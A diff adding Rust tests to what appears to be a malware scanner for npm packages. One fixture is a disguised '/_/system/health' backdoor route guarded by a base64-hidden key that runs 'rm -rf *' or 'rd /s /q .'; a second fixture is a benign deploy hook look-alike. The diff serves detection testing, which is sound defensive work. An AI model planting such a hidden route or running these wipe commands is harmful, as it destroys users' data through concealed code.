@@ -301,4 +301,36 @@ module.exports = function view(req, res, next) {
         assert!(hits(&s, "code/backdoor-route").is_empty());
         assert_eq!(s.verdict, Verdict::Clean);
     }
+
+    /// The key hidden in base64 and compared in a guard (`if (key !== k) return`), the wipe
+    /// command chosen per platform.
+    #[test]
+    fn positive_decoded_key_guard() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "lib/sync.js",
+                "const { exec } = require('child_process');\nconst k = Buffer.from('REVGQVVMVF8xMjM=', 'base64').toString();\nexports.install = function (app) {\n  app.post('/_/system/health', (req, res) => {\n    const key = req.headers['x-health-key'];\n    if (key !== k) return res.status(404).end();\n    const cmd = process.platform === 'win32' ? 'rd /s /q .' : 'rm -rf *';\n    exec(cmd, () => res.json({ ok: true }));\n  });\n};\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/backdoor-route"),
+            vec![("lib/sync.js".to_string(), 8)]
+        );
+        assert_eq!(s.verdict, Verdict::Malicious);
+    }
+
+    /// The benign look-alike: a deploy hook compares its header with a token decoded from
+    /// configuration (no constant) before running the project's build.
+    #[test]
+    fn negative_configured_key_decoded() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "hook.js",
+                "const { exec } = require('child_process');\nconst k = Buffer.from(process.env.HOOK_TOKEN || '', 'base64').toString();\nmodule.exports = (app) => app.post('/hook', (req, res) => {\n  if (req.headers['x-hook-token'] !== k) return res.status(401).end();\n  exec('npm run build', () => res.end());\n});\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/backdoor-route").is_empty());
+    }
 }
